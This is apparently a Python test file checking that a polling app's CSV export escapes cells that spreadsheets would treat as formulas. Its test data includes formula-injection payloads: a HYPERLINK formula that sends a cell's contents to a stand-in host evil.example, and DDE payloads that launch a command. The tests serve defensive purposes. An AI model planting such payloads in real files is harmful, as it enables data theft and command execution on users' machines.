"""CSV formula injection (issue 19, item 8): deck text that a spreadsheet would run as
a formula is written so that it reads as text, checked by reading the file back cell
by cell as a spreadsheet program does (the first character decides)."""
from __future__ import annotations

import csv
import io

from common.spreadsheet import FORMULA_STARTS
from server.store.results import OptionResult, PollResult, SessionResults
from server.store.results_files import CSV_ENCODING, csv_bytes
from server.store.session_list import SessionSummary

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=1+1"', "Enig"]


def results() -> SessionResults:
    options = tuple(OptionResult(f"o{i}", text, i, 10.0 * i) for i, text in enumerate(HOSTILE))
    poll = PollResult("=id", 2, "=cmd|' /C calc'!A0 ?", 28, options, True, False)
    summary = SessionSummary(1, "@session", "/decks/x.md", "X", 0.0, 1, 28, 28)
    return SessionResults(summary, (poll,))


def test_formula_cells_are_neutralised_and_read_back_as_the_text_written():
    rows = list(csv.reader(io.StringIO(csv_bytes(results()).decode(CSV_ENCODING), newline="")))
    header, body = rows[0], rows[1:]
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    labels = [row[header.index("label")] for row in body]
    assert labels == ["'" + t if t[0] in "=+-@\t\r" else t for t in HOSTILE]
    assert [label.removeprefix("'") for label in labels] == HOSTILE
    assert body[0][header.index("question")] == "'=cmd|' /C calc'!A0 ?"
    assert body[0][header.index("poll_id")] == "'=id"
    assert [row[header.index("count")] for row in body] == [str(i) for i in range(len(HOSTILE))]


def test_typed_answers_are_neutralised_and_a_scales_points_stay_numbers():
    from server.store.results import AnswerResult

    answers = tuple(AnswerResult(i + 1, text, 0.0, False, True, False, 0) for i, text in enumerate(HOSTILE))
    scale = (OptionResult("-2", "-2", 1, 50.0), OptionResult("2", "2", 1, 50.0))
    polls = (PollResult("words", 3, "Ord?", 8, (), True, False, kind="open", answers=answers),
             PollResult("mood", 4, "Hvordan?", 2, scale, True, False, kind="scale"))
    summary = SessionSummary(1, "s", "/decks/x.md", "X", 0.0, 2, 10, 10)
    rows = list(csv.reader(io.StringIO(csv_bytes(SessionResults(summary, polls)).decode(CSV_ENCODING),
                                       newline="")))
    header, body = rows[0], rows[1:]
    texts = [row[header.index("text")] for row in body if row[header.index("answer_id")]]
    assert [text.removeprefix("'") for text in texts] == HOSTILE
    assert not any(text.startswith(FORMULA_STARTS) for text in texts)
    points = [row[header.index("option_id")] for row in body if row[header.index("poll_id")] == "mood"]
    assert points == ["-2", "2"]
    assert [row[header.index("label")] for row in body if row[header.index("poll_id")] == "mood"] == ["-2", "2"]
